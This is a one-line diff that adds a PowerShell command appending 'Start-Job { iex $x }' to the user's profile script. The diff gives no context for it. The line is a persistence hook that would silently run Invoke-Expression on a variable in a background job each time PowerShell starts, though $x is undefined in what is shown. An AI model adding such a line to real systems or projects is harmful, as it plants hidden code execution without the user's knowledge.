@@ -1,0 +1,1 @@
+Add-Content $PROFILE 'Start-Job { iex $x }'
